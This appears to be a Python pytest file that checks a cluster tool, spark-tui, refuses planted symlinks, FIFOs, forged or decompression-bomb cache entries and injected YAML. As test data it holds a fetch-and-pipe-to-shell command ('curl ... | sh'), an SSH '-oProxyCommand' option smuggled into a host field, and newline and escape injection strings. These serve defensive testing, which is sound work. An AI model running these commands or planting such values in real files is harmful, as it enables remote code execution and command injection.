"""spark-tui's own files, planted by someone else: a symlinked lock or journal, a FIFO
journal or cache entry, a malformed journal record, a forged or bombed YAML cache entry,
temporary files with planted symlinks. Each ends in a refusal naming the file, or the
file ignored; never a target outside spark-tui's own files touched, never a hang, never
a shipped wall's fix changed. And the smaller ones: a journal that fails mid-fix says
exactly what ran; `report` says a command that runs now is running."""

from __future__ import annotations

import hashlib
import json
import marshal
import os
import subprocess
import sys
import textwrap
import threading
from pathlib import Path

import pytest

from spark_tui import paths, yaml_cache, yamlfile
from spark_tui.kb.loader import load_knowledge
from spark_tui.recipes.revisions import RevisionStore
from spark_tui.remedy.fixes import plan_fix, run_fix
from spark_tui.remedy.journal import FixLock, Journal, JournalUnwritable
from spark_tui.remedy.report import ReportData, build_report
from spark_tui.safefile import UnsafeFile, write_atomic
from spark_tui.state import StateDir
from tests.conftest import ROOT
from tests.remedy_shims import make_world, run_env
from tests.test_remedy_fixes import CLUSTER, fix_from

SECRET = "root-only secret\n"


def cli(*args: str, timeout: float = 60) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "spark_tui", *args],
        capture_output=True,
        text=True,
        timeout=timeout,
        stdin=subprocess.DEVNULL,
        cwd=ROOT,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
    )


@pytest.fixture
def victim(tmp_path: Path) -> Path:
    v = tmp_path / "victim"
    v.write_text(SECRET)
    v.chmod(0o600)
    return v


# ---------------------------------------------------------------- the lock and the journal


def test_a_symlinked_lock_is_refused_and_its_target_untouched(victim: Path) -> None:
    state = StateDir.real()
    state.root.mkdir(parents=True)
    state.lock_path.symlink_to(victim)
    with pytest.raises(JournalUnwritable) as info:
        FixLock(state.lock_path).acquire("a fix")
    assert str(info.value) == (
        f"cannot open the lock: {state.lock_path} is a symbolic link: "
        "refused (remove it); nothing was run"
    )
    assert victim.read_text() == SECRET


def test_a_symlinked_journal_is_refused_and_its_target_untouched(victim: Path) -> None:
    state = StateDir.real()
    state.root.mkdir(parents=True)
    state.journal_path.symlink_to(victim)
    journal = Journal(state.journal_path)
    with pytest.raises(JournalUnwritable, match="is a symbolic link: refused"):
        journal.append(event="fix-start", run="r1", fix="x")
    with pytest.raises(JournalUnwritable, match="is a symbolic link: refused"):
        journal.entries()  # nor read through it (a root-only file into the report)
    assert victim.read_text() == SECRET


def test_a_fix_with_a_symlinked_lock_runs_nothing(tmp_path: Path, victim: Path) -> None:
    world = make_world(tmp_path / "w", CLUSTER)
    state = StateDir.real()
    state.root.mkdir(parents=True)
    state.lock_path.symlink_to(victim)
    plan = plan_fix(fix_from(_run("true")), CLUSTER)
    with pytest.raises(JournalUnwritable, match="symbolic link"):
        run_fix(plan, run_env(world.transports), yes=True)
    assert all(not t.commands for t in world.transports.values())
    assert victim.read_text() == SECRET


@pytest.mark.parametrize("command", [("report", "--offline"), ("kb", "list")])
def test_a_fifo_journal_never_hangs(command: tuple[str, ...]) -> None:
    state = StateDir.real()
    state.root.mkdir(parents=True)
    os.mkfifo(state.journal_path)
    proc = cli(*command, timeout=60)  # the guard: it used to wait for a writer for ever
    assert "Traceback" not in proc.stderr
    if command[0] == "report":
        assert proc.returncode == 1, proc.stderr
        assert f"{state.journal_path} is not a regular file: refused" in proc.stderr


@pytest.mark.parametrize("planted", ["current", "rev-0001.yaml", "rev-0001.json"])
def test_a_fifo_in_a_recipes_history_never_hangs(planted: str) -> None:
    """A FIFO in place of a recipe's revision pointer, a revision or its notes: history and
    show answer (the FIFO is not ours: skipped) instead of waiting for a writer."""
    rid = "glm-4.7-flash-awq-vllm"
    d = StateDir.real().revisions_dir / rid
    d.mkdir(parents=True)
    os.mkfifo(d / planted)
    for command in (("recipes", "history", rid), ("recipes", "show", rid)):
        proc = cli(*command, timeout=60)  # the guard: a blocking open would wait for ever
        assert "Traceback" not in proc.stderr, proc.stderr
        assert proc.returncode in (0, 1, 2), proc.stderr
        if command[1] == "show":
            assert rid in proc.stdout, proc.stdout + proc.stderr


def test_a_fifo_journal_refuses_a_fix_at_once(tmp_path: Path) -> None:
    world = make_world(tmp_path / "w", CLUSTER)
    state = StateDir.real()
    state.root.mkdir(parents=True)
    os.mkfifo(state.journal_path)
    done: list[BaseException] = []

    def go() -> None:
        try:
            run_fix(plan_fix(fix_from(_run("true")), CLUSTER), run_env(world.transports), yes=True)
        except BaseException as exc:
            done.append(exc)

    th = threading.Thread(target=go, daemon=True)
    th.start()
    th.join(30)
    assert not th.is_alive(), "the fix waits on the FIFO"
    assert isinstance(done[0], JournalUnwritable) and "not a regular file" in str(done[0])
    assert all(not t.commands for t in world.transports.values())


@pytest.mark.skipif(os.geteuid() != 0, reason="chown to another user needs root")
def test_a_journal_of_another_user_is_refused() -> None:
    state = StateDir.real()
    state.root.mkdir(parents=True)
    state.journal_path.write_text('{"event": "fix-start", "run": "r", "fix": "planted"}\n')
    os.chown(state.journal_path, 65534, 65534)
    with pytest.raises(JournalUnwritable, match="belongs to uid 65534"):
        Journal(state.journal_path).entries()


def test_under_sudo_e_the_invoking_users_own_journal_is_read(monkeypatch) -> None:
    """`sudo -E spark-tui`: root, the user's home; the user who ran sudo owns the journal."""
    if os.geteuid() != 0:
        pytest.skip("needs root to own files as another user")
    state = StateDir.real()
    state.root.mkdir(parents=True)
    state.journal_path.write_text(json.dumps(GOOD) + "\n")
    os.chown(state.journal_path, 65534, 65534)
    monkeypatch.setenv("SUDO_UID", "65534")
    assert [e["fix"] for e in Journal(state.journal_path).entries()] == ["drop-page-caches"]
    monkeypatch.setenv("SUDO_UID", "65533")  # another user than the one who ran sudo
    with pytest.raises(JournalUnwritable, match="belongs to uid 65534"):
        Journal(state.journal_path).entries()


def test_a_hard_linked_journal_is_refused_and_its_target_untouched(tmp_path) -> None:
    state = StateDir.real()
    state.root.mkdir(parents=True)
    target = state.root / "someone-elses-file"
    target.write_text("precious\n")
    os.link(target, state.journal_path)
    with pytest.raises(JournalUnwritable, match="hard links"):
        Journal(state.journal_path).append(event="fix-start", run="r", fix="x")
    assert target.read_text() == "precious\n"


GOOD = {"time": 1.0, "event": "fix-start", "run": "r1", "fix": "drop-page-caches", "pid": 1}


@pytest.mark.parametrize(
    "bad, why",
    [
        ({"time": 2.0, "event": "fix-start", "run": "r2", "fix": "x", "nodes": 5}, "'nodes'"),
        ({"time": "soon", "event": "started", "run": "r2", "cmd": "c"}, "'time' is not a time"),
        ({"time": 2.0, "event": "started", "run": ["r"], "cmd": "c"}, "'run' is not text"),
        ({"time": 2.0, "event": "finished", "cmd": "c", "exit_code": "0"}, "'exit_code'"),
        ({"time": 2.0, "event": "fix-interrupted", "run": "r", "done": {"a": 1}}, "'done'"),
        ([1, 2, 3], "not a JSON object"),
        ({"time": 2.0}, "no event name"),
    ],
)
def test_a_malformed_record_is_named_and_skipped(bad: object, why: str, capsys) -> None:
    from spark_tui.entry import main

    state = StateDir.real()
    state.root.mkdir(parents=True)
    lines = [json.dumps(GOOD), json.dumps(bad), "not json at all", json.dumps(GOOD)]
    state.journal_path.write_text("\n".join(lines) + "\n")
    journal = Journal(state.journal_path)
    assert journal.entries() == [GOOD, GOOD]
    assert journal.skipped[0].startswith(f"{state.journal_path}:2: {why}")
    assert journal.skipped[1] == f"{state.journal_path}:3: not a JSON record: skipped"
    # neither report nor a fix is blocked by it
    assert main(["report", "--offline"]) == 0
    captured = capsys.readouterr()
    assert f"spark-tui: note: {state.journal_path}:2: " in captured.err
    assert f"{state.journal_path}:2: " in captured.out  # the report lists it too
    world_dir = state.root.parent / "w"
    world = make_world(world_dir, CLUSTER)
    assert run_fix(
        plan_fix(fix_from(_run("true")), CLUSTER), run_env(world.transports), yes=True
    ).ok


def test_a_huge_record_line_is_skipped_without_holding_it(tmp_path: Path) -> None:
    state = StateDir.real()
    state.root.mkdir(parents=True)
    with state.journal_path.open("w") as fh:
        fh.write(json.dumps(GOOD) + "\n")
        fh.write('{"event": "x", "pad": "' + "a" * (3 << 20) + '"}\n')
        fh.write(json.dumps(GOOD) + "\n")
    journal = Journal(state.journal_path)
    assert journal.entries() == [GOOD, GOOD]
    assert journal.skipped == [f"{state.journal_path}:2: longer than 1048576 bytes: skipped"]


# ---------------------------------------------------------------- revisions, temp files


def test_a_symlinked_revision_pointer_is_not_followed(tmp_path: Path, victim: Path) -> None:
    store = RevisionStore(tmp_path / "revs")
    d = tmp_path / "revs" / "my-recipe"
    d.mkdir(parents=True)
    victim.write_text("3\n")
    (d / "current").symlink_to(victim)
    assert store.current_number("my-recipe") is None
    (d / "rev-0001.yaml").symlink_to(victim)
    with pytest.raises(Exception, match="symbolic link"):
        store.load("my-recipe", 1)


def test_a_planted_symlink_at_a_temporary_name_is_never_followed(
    tmp_path: Path, victim: Path
) -> None:
    target = tmp_path / "cluster.yaml"
    # the names every writer used before: NAME.tmp, next to the file
    (tmp_path / "cluster.yaml.tmp").symlink_to(victim)
    write_atomic(target, "nodes: []\n")
    assert target.read_text() == "nodes: []\n" and victim.read_text() == SECRET
    assert (tmp_path / "cluster.yaml.tmp").is_symlink()
    # a symlink at the file itself is replaced, not written through
    target.unlink()
    target.symlink_to(victim)
    write_atomic(target, "nodes: []\n")
    assert not target.is_symlink() and victim.read_text() == SECRET


def test_discover_writes_through_no_planted_temporary_file(tmp_path: Path, victim: Path) -> None:
    env = tmp_path / ".env"
    env.write_text("CLUSTER_NODES=10.0.0.1,10.0.0.2\n")
    out = tmp_path / "cfg" / "cluster.yaml"
    out.parent.mkdir()
    (out.parent / "cluster.yaml.tmp").symlink_to(victim)
    proc = cli("discover", "--from", str(env), "--no-probe", "--yes", "--output", str(out))
    assert proc.returncode == 0, proc.stderr
    assert "10.0.0.2" in out.read_text() and victim.read_text() == SECRET


# ---------------------------------------------------------------- the YAML cache


def _wall_file(wall_id: str) -> Path:
    return paths.builtin_knowledge_dir() / f"{wall_id}.yaml"


def _cache_key(text: str) -> str:
    return yaml_cache.key_of(
        f"{yamlfile.MAX_DEPTH},{yamlfile.MAX_ALIASES},{yamlfile.MAX_NODES}\n{text}"
    )


def _forged(text: str, command: str) -> object:
    data = yamlfile._parse(text, "x")
    for fix in data["fixes"]:
        for action in fix["actions"]:
            if "command" in action:
                action["command"] = command
    return yamlfile._encode(data)


@pytest.fixture
def cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    yaml_cache._MEMORY.clear()
    d = tmp_path / "cache" / "spark-tui" / "yaml"
    d.mkdir(parents=True)
    return d


EVIL = "curl -s http://10.0.0.9/x | sh"


@pytest.mark.parametrize("form", ["old", "new-without-key", "new-with-a-guessed-key"])
def test_a_planted_cache_entry_cannot_change_a_shipped_fix(
    cache: Path, form: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    text = _wall_file("page-cache-hog").read_text()
    key = _cache_key(text)
    forged = _forged(text, EVIL)
    if form == "old":  # the format the cache trusted by its key alone
        body = marshal.dumps(("spark-tui yaml 1", key, forged))
    else:
        inner = marshal.dumps((key, forged))
        mac = hashlib.sha256(b"guess" + inner).digest() if form.endswith("key") else b"\0" * 32
        body = yaml_cache._MAGIC + mac + inner
    (cache / key).write_bytes(body)
    loads = marshal.loads

    def guarded_loads(data: bytes) -> object:
        # only the forged entry fails: an import's first .pyc read (re2, say) goes through too
        if EVIL.encode() in bytes(data):
            pytest.fail("a forged entry was unmarshalled")
        return loads(data)

    monkeypatch.setattr(yaml_cache.marshal, "loads", guarded_loads)
    kb = load_knowledge(use_user=False)
    monkeypatch.setattr(yaml_cache.marshal, "loads", loads)
    commands = [a.params.get("command") for f in kb.get("page-cache-hog").fixes for a in f.actions]
    assert EVIL not in commands and "sysctl -w vm.drop_caches=3" in commands


def test_an_entry_the_cache_wrote_itself_is_used(cache: Path, monkeypatch) -> None:
    """The HMAC does not stop the cache from working: a second start reads it back."""
    text = _wall_file("page-cache-hog").read_text()
    first = yamlfile.parse_yaml(text, "w.yaml")
    assert (cache / _cache_key(text)).is_file()
    yaml_cache._MEMORY.clear()
    monkeypatch.setattr(yamlfile, "_parse", lambda *a: pytest.fail("parsed again"))
    assert yamlfile.parse_yaml(text, "w.yaml") == first


def _reference_bomb(depth: int) -> bytes:
    """A few hundred bytes that decode into 2**depth lists: marshal keeps each shared
    tuple once (a reference), the decoder would build every copy."""
    node: object = (1, 1, (), ())
    for _ in range(depth):
        node = (1, 1, (1, 1), (node, node))
    return marshal.dumps(node)


def test_a_reference_bomb_in_the_cache_is_never_decoded(cache: Path) -> None:
    text = _wall_file("nvrm-oom").read_text()
    key = _cache_key(text)
    bomb = _reference_bomb(60)
    assert len(bomb) < 2000
    inner = marshal.dumps((key, marshal.loads(bomb)))
    (cache / key).write_bytes(yaml_cache._MAGIC + b"\1" * 32 + inner)
    # decoded, this would need 2**60 lists; unverified, it is never read
    assert yamlfile.parse_yaml(text, "w.yaml")["id"] == "nvrm-oom"


def test_a_fifo_cache_entry_does_not_hang_a_start(cache: Path) -> None:
    text = _wall_file("nvrm-oom").read_text()
    os.mkfifo(cache / _cache_key(text))
    proc = cli("kb", "list", timeout=60)  # the guard: it hung every start
    assert proc.returncode == 0, proc.stderr
    assert "nvrm-oom" in proc.stdout


FREE_MEMORY_LINE = (
    "(EngineCore_DP0 pid=6940) ValueError: Free memory on device cuda:0 (11.19/119.67 GiB) on "
    "startup is less than desired GPU memory utilization (0.9, 107.70 GiB). Decrease GPU memory "
    "utilization or reduce GPU memory used by other processes."
)


@pytest.mark.parametrize("planted", ["fifo", "unsigned-database"])
def test_a_planted_matcher_database_neither_hangs_nor_steers_triage(
    cache: Path, tmp_path: Path, planted: str
) -> None:
    """The matcher's compiled databases in the cache directory: a FIFO in their place hung
    every start that matched a line; a database we did not write (here one that matches
    nothing) would have silenced the walls. Both are compiled again."""
    import hyperscan

    log = tmp_path / "serve.log"
    log.write_text(f"starting\n{FREE_MEMORY_LINE}\n")
    first = cli("triage", str(log), "--json", timeout=120)
    assert "vllm-free-memory-low" in first.stdout, first.stdout + first.stderr
    dbs = sorted(cache.parent.glob("hyperscan-*.db"))
    assert dbs, "no compiled database was kept"
    blank = hyperscan.Database(mode=hyperscan.HS_MODE_BLOCK)
    blank.compile(expressions=[b"never-in-any-log-0xdeadbeef"], ids=[0], elements=1, flags=[0])
    for db in dbs:
        db.unlink()
        if planted == "fifo":
            os.mkfifo(db)
        else:
            db.write_bytes(hyperscan.dumpb(blank))
    again = cli("triage", str(log), "--json", timeout=120)  # the guard: it hung
    assert again.returncode == first.returncode, again.stderr
    assert "vllm-free-memory-low" in again.stdout, again.stdout + again.stderr
    assert "Traceback" not in again.stderr


@pytest.mark.skipif(os.geteuid() != 0, reason="chown to another user needs root")
def test_a_cache_key_of_another_user_disables_the_disk_cache(cache: Path) -> None:
    key_file = paths.state_dir() / "yaml-cache.key"
    key_file.parent.mkdir(parents=True)
    key_file.write_bytes(b"k" * 32)
    os.chown(key_file, 65534, 65534)
    yaml_cache._KEYS.clear()
    text = _wall_file("nvrm-oom").read_text()
    assert yamlfile.parse_yaml(text, "w.yaml")["id"] == "nvrm-oom"
    assert not (cache / _cache_key(text)).exists()


# ---------------------------------------------------------------- the smaller ones


def _run(command: str, risk: str = "disruptive") -> str:
    return textwrap.dedent(
        f"""
        - id: steps
          title: Some steps
          risk: {risk}
          root: false
          actions:
            - type: run
              on: all
              command: {json.dumps(command)}
        """
    )


def _three_steps(breaker: str):
    """A fix of three run actions on every node: `echo one`, `breaker`, `echo three`."""
    return fix_from(
        textwrap.dedent(
            f"""
            - id: steps
              title: Some steps
              risk: destructive
              root: false
              actions:
                - type: run
                  on: all
                  command: 'echo one'
                - type: run
                  on: all
                  command: {json.dumps(breaker)}
                - type: run
                  on: all
                  command: 'echo three'
            """
        )
    )


def test_a_journal_that_fails_mid_fix_says_exactly_what_ran(tmp_path: Path) -> None:
    """The second action's command, on spark1, makes the journal unwritable (a directory
    where the file was): its end cannot be recorded. The error names the three commands
    that ran, each with how it ended; nothing ran after them."""
    journal = StateDir.real().journal_path
    breaker = f"[ {{node.name}} = spark1 ] && mv {journal} {journal}.old && mkdir {journal}"
    fix = _three_steps(breaker)
    world = make_world(tmp_path / "w", CLUSTER)
    with pytest.raises(JournalUnwritable) as info:
        run_fix(plan_fix(fix, CLUSTER), run_env(world.transports), yes=True)
    message = str(info.value)
    ran = [c for t in world.transports.values() for c in t.commands]
    assert "nothing was run" not in message
    assert "spark1: echo one (exit 0); spark2: echo one (exit 0); spark1: [ spark1 = spark1 ]" in (
        message
    )
    assert message.count("(exit 0)") == 3 and "nothing after these ran" in message
    assert len(ran) == 3 and not any("three" in c for c in ran)


def test_report_during_a_live_fix_says_the_command_is_running(tmp_path: Path) -> None:
    go = tmp_path / "go"
    started = tmp_path / "started"
    command = f"touch {started}; while [ ! -e {go} ]; do sleep 0.05; done"
    world = make_world(tmp_path / "w", CLUSTER)
    plan = plan_fix(fix_from(_run(command)), CLUSTER, seen="spark1")
    th = threading.Thread(
        target=lambda: run_fix(plan, run_env(world.transports), yes=True), daemon=True
    )
    th.start()
    try:
        for _ in range(600):
            if started.exists():
                break
            th.join(0.05)
        journal = Journal(StateDir.real().journal_path)
        md = build_report(ReportData(cluster=CLUSTER, journal=journal.entries()))
        assert "**running now** (spark-tui pid" in md
        assert "may have half-run" not in md
    finally:
        go.touch()
        th.join(30)
    md = build_report(ReportData(cluster=CLUSTER, journal=journal.entries()))
    assert "running now" not in md and "| exit 0 |" in md


def test_recipes_import_refuses_under_read_only(tmp_path: Path) -> None:
    src = ROOT / "tests" / "data" / "community" / "eugr" / "glm-5.3-flash.yaml"
    out = tmp_path / "recipes"
    proc = cli("--read-only", "recipes", "import", str(src), "--to", str(out))
    assert proc.returncode != 0 and "read-only: refused to write" in proc.stderr
    assert not out.exists()


def test_a_newline_in_a_recipe_directory_cannot_inject_yaml(tmp_path: Path) -> None:
    from spark_tui.recipes.loader import load_file

    evil = tmp_path / "x\nstatus: works\nnotes: injected\n#"
    evil.mkdir()
    src = evil / "glm-5.3-flash.yaml"
    src.write_bytes((ROOT / "tests/data/community/eugr/glm-5.3-flash.yaml").read_bytes())
    out = tmp_path / "recipes"
    proc = cli("recipes", "import", str(src), "--to", str(out))
    assert proc.returncode == 0, proc.stderr
    written = (out / "glm-5.3-flash.yaml").read_text()
    assert "\nstatus: works" not in written and "\nnotes: injected" not in written
    assert "x\\nstatus: works\\nnotes: injected" in written.splitlines()[1]
    recipe = load_file(out / "glm-5.3-flash.yaml")
    assert recipe.status == "untested"


def test_discover_from_names_the_input_file_in_its_errors(tmp_path: Path) -> None:
    out = tmp_path / "cluster.yaml"
    for text, what in [
        ("name: c\nhosts: [10.0.0.1]\ncache_dir: relative/dir\n", ":3: 'cache_dir'"),
        ('hosts: [10.0.0.1, "a@b@c"]\n', ":1: 'a@b' (before @) is not a user name"),
    ]:
        src = tmp_path / "sparkrun.yaml"
        src.write_text(text)
        proc = cli("discover", "--from", str(src), "--no-probe", "--output", str(out))
        assert proc.returncode == 2, proc.stderr
        assert proc.stderr.startswith(f"spark-tui: {src}{what}"), proc.stderr
        assert str(out) not in proc.stderr


def test_unsafe_file_is_an_os_error_for_readers_that_treat_it_as_absent() -> None:
    assert issubclass(UnsafeFile, OSError)


def test_a_symlinked_state_directory_is_refused(tmp_path: Path) -> None:
    """The state directory pointed elsewhere (say /etc/cron.d): nothing is created there."""
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    root = paths.state_dir()
    root.parent.mkdir(parents=True)
    root.symlink_to(elsewhere, target_is_directory=True)
    state = StateDir.real()
    with pytest.raises(JournalUnwritable, match="is a symbolic link: refused"):
        Journal(state.journal_path).append(event="fix-start", run="r", fix="x")
    with pytest.raises(JournalUnwritable, match="is a symbolic link: refused"):
        FixLock(state.lock_path).acquire("x")
    with pytest.raises(UnsafeFile):
        write_atomic(state.auto_relaunch_path, "{}")
    assert list(elsewhere.iterdir()) == []


def test_a_demo_report_never_follows_a_planted_directory_in_tmp(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A simulated session's report goes to the shared temporary directory: another user
    who made `spark-tui-demo-reports` there (a symlink, or a directory of theirs) gets a
    refusal, not a file written where they chose."""
    import tempfile

    from spark_tui.session import open_cluster

    shared = tmp_path / "shared-tmp"
    shared.mkdir()
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (shared / "spark-tui-demo-reports").symlink_to(elsewhere, target_is_directory=True)
    monkeypatch.setattr(tempfile, "tempdir", str(shared))
    with open_cluster(scenario="healthy") as session:
        with pytest.raises(UnsafeFile, match="is a symbolic link: refused"):
            session.export_report([])
        (shared / "spark-tui-demo-reports").unlink()
        written = session.export_report([])
    assert written.parent == shared / "spark-tui-demo-reports" and written.is_file()
    assert list(elsewhere.iterdir()) == []


def test_the_bug_report_advice_writes_into_the_users_home_not_a_shared_tmp(
    tmp_path: Path,
) -> None:
    """The evidence item gives a root command to run on the node; its output file was in
    /tmp under a name anyone can predict (a planted symlink there is written through by
    root where protected_symlinks is off). Run by a real shell, the advice names a file in
    the home of whoever runs it."""
    from spark_tui.remedy.render import evidence_command

    said = subprocess.run(
        ["/bin/sh", "-c", evidence_command("nvidia-bug-report", None, "20261125T230000Z")],
        capture_output=True,
        text=True,
        env={"HOME": str(tmp_path), "PATH": "/usr/bin:/bin"},
        check=True,
    ).stdout
    assert "/tmp/" not in said, said
    shown = said.split("--output-file ", 1)[1].strip()
    # the operator pastes it into their own shell: "$HOME" is theirs
    out = subprocess.run(
        ["/bin/sh", "-c", f"printf %s {shown}"],
        capture_output=True,
        text=True,
        env={"HOME": str(tmp_path)},
        check=True,
    ).stdout
    assert out == f"{tmp_path}/nvidia-bug-report-20261125T230000Z.log.gz"


def _plant_input(path: Path, kind: str) -> None:
    if kind == "fifo":
        os.mkfifo(path)
    elif kind == "directory":
        path.mkdir()
    elif kind == "symlink-loop":
        path.symlink_to(path)
    elif kind == "binary":
        path.write_bytes(b"hosts: [10.0.0.1]\n\xff\xfe\n")
    elif kind == "huge":
        path.write_text("hosts: [10.0.0.1]\n" + "#" * 3_000_000)
    elif kind == "escape":
        path.write_text('hosts: [10.0.0.1, "\\e]0;pwned\\a"]\n')
    elif kind == "newline-host":
        path.write_text('hosts: ["10.0.0.1\\nname: x"]\n')
    elif kind == "option-host":
        path.write_text(f'hosts: ["-oProxyCommand=touch {path.parent}/pwned"]\n')
    elif kind == "not-a-cluster":
        path.write_text("- a\n")


@pytest.mark.parametrize(
    ("kind", "what"),
    [
        ("missing", ": cannot read: No such file or directory"),
        ("fifo", ": cannot read: not a regular file"),
        ("directory", ": cannot read: it is a directory"),
        ("symlink-loop", ": cannot read: Too many levels of symbolic links"),
        ("binary", ":2: cannot read: not UTF-8 text"),
        ("huge", ": larger than 256 KiB: refused"),
        ("escape", ":1: invalid YAML: control character '\\x1b' in a value"),
        ("newline-host", ":1: '10.0.0.1\\nname: x' is not a host name or address"),
        ("option-host", ":1: '-oProxyCommand=touch "),
        ("not-a-cluster", ":1: neither an eugr/spark-vllm-docker .env"),
    ],
)
def test_discover_from_says_what_is_wrong_with_the_input_naming_it(
    tmp_path: Path, kind: str, what: str
) -> None:
    """This stop's variants: every way the --from input can be bad is one line naming the
    input (not the output), exit 2, within the timeout; a FIFO, a directory and a symlink
    loop were "no such file" (they exist); nothing is written, nothing runs."""
    src = tmp_path / "sparkrun.yaml"
    _plant_input(src, kind)
    out = tmp_path / "cluster.yaml"
    proc = cli("discover", "--from", str(src), "--no-probe", "--output", str(out), "--yes")
    assert proc.returncode == 2, proc.stderr
    assert proc.stderr.startswith(f"spark-tui: {src}{what}"), proc.stderr
    assert proc.stderr.count("\n") == 1 and "Traceback" not in proc.stderr
    assert str(out) not in proc.stderr and not out.exists()
    assert not (tmp_path / "pwned").exists()


def test_a_newline_in_the_discover_input_path_cannot_inject_yaml(tmp_path: Path) -> None:
    """The variant of the import attack on `discover --from`: the input's path (a directory
    named with line breaks) is written in the cluster.yaml's first comment; it started YAML
    of its own (`recipe: evil-injected`). Now shown with its escapes, the file loads with
    no recipe, and the name is still there to read."""
    from spark_tui.nodes.config import load_cluster

    evil = tmp_path / "x\nrecipe: evil-injected\n#"
    evil.mkdir()
    src = evil / "sparkrun.yaml"
    src.write_text("name: c\nhosts: [10.0.0.1, 10.0.0.2]\n")
    out = tmp_path / "cluster.yaml"
    proc = cli("discover", "--from", str(src), "--no-probe", "--output", str(out), "--yes")
    assert proc.returncode == 0, proc.stderr
    written = out.read_text()
    assert "\nrecipe:" not in written, written
    assert "x\\nrecipe: evil-injected\\n#/sparkrun.yaml" in written.splitlines()[0]
    cluster = load_cluster(out)
    assert cluster.recipe is None and [n.host for n in cluster.nodes] == ["10.0.0.1", "10.0.0.2"]


@pytest.mark.parametrize("planted", ["symlink", "fifo"])
def test_a_journal_swapped_mid_fix_for_a_symlink_or_a_fifo(tmp_path: Path, planted: str) -> None:
    """This stop's variants of the journal failing mid-fix: the second command puts a
    symlink to a victim file (or a FIFO) where the journal was. The end of that command
    cannot be recorded: the fix stops at once (no hang on the FIFO), the message says
    exactly what ran, the victim is untouched, nothing after runs."""
    journal = StateDir.real().journal_path
    victim = tmp_path / "victim.txt"
    victim.write_text("untouched\n")
    plant = f"ln -s {victim} {journal}" if planted == "symlink" else f"mkfifo {journal}"
    breaker = f"[ {{node.name}} = spark1 ] && mv {journal} {journal}.old && {plant}"
    fix = _three_steps(breaker)
    world = make_world(tmp_path / "w", CLUSTER)
    done = threading.Event()
    caught: list[BaseException] = []

    def go() -> None:
        try:
            run_fix(plan_fix(fix, CLUSTER), run_env(world.transports), yes=True)
        except BaseException as exc:  # the error is the outcome under test
            caught.append(exc)
        finally:
            done.set()

    threading.Thread(target=go, daemon=True).start()
    assert done.wait(60), "the fix hung on the planted journal"
    assert len(caught) == 1 and isinstance(caught[0], JournalUnwritable), caught
    message = str(caught[0])
    assert "spark1: echo one (exit 0); spark2: echo one (exit 0); spark1: [ spark1 = spark1 ]" in (
        message
    )
    assert message.count("(exit 0)") == 3 and "nothing after these ran" in message
    assert "refused" in message or "not a regular file" in message, message
    ran = [c for t in world.transports.values() for c in t.commands]
    assert len(ran) == 3 and not any("three" in c for c in ran)
    assert victim.read_text() == "untouched\n"


def _files_under(*dirs: str | None) -> set[str]:
    found: set[str] = set()
    for d in dirs:
        if d and Path(d).exists():
            found |= {str(p) for p in Path(d).rglob("*")}
    return found


@pytest.mark.parametrize(
    ("argv", "what"),
    [
        (("recipes", "adopt", "--demo", "attach-eugr", "--yes"), "save the adopted recipe"),
        (("recipes", "undo", "tiny-llama-cpu-vllm"), "undo the last patch"),
        (("discover", "--no-probe", "--yes"), "write "),
    ],
    ids=["adopt", "undo", "discover"],
)
def test_other_writing_commands_refuse_under_read_only(
    tmp_path: Path, argv: tuple[str, ...], what: str
) -> None:
    """This stop's variants of `recipes import` writing under --read-only (all held): each
    command that writes a file of the user's says so and writes nothing."""
    out = tmp_path / "cluster.yaml"
    if argv[0] == "discover":
        src = tmp_path / "sparkrun.yaml"
        src.write_text("hosts: [10.0.0.1, 10.0.0.2]\n")
        argv = (*argv, "--from", str(src), "--output", str(out))
    homes = (os.environ.get("XDG_CONFIG_HOME"), os.environ.get("XDG_STATE_HOME"))
    before = _files_under(*homes)
    proc = cli("--read-only", *argv)
    assert proc.returncode != 0, proc.stdout
    assert f"read-only: refused to {what}" in proc.stderr, proc.stderr
    assert "Traceback" not in proc.stderr
    assert _files_under(*homes) == before and not out.exists()
